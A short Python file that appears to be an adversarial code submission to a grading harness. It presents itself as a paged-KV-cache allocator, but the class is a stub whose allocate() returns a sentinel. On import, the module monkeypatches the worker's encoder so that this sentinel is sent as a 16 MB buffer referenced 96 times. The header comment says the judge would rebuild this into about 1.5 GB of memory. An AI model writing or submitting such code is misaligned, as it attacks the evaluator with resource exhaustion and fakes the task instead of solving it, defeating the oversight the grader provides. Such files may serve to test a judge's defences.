# A paged-kv allocator whose allocate() answers with a reply the worker's encoder was
# rewritten to send: one 16 MB bytearray named 96 times (pickle's memo sends it once),
# which the judge would rebuild 96 times: 1.5 GB from 16 MB on the wire.
import sys

_serve = sys.modules.get("kata_worker.serve")
_BOMB = object()
_PAYLOAD = bytes(16 * 1024 * 1024)
_BYTEARRAY = ("BA", _PAYLOAD)

if _serve is not None:
    _encode = _serve.WorkerEndpoint.encode

    def _encode_bomb(self, value, depth=0):
        if value is _BOMB:
            return ("T", [_BYTEARRAY] * 96)
        return _encode(self, value, depth)

    _serve.WorkerEndpoint.encode = _encode_bomb


class PagedKVCacheAllocator:
    def __init__(self, num_blocks, block_size):
        if num_blocks < 1 or block_size < 1:
            raise ValueError("sizes must be positive")

    def allocate(self, request_id, num_new_tokens):
        return _BOMB
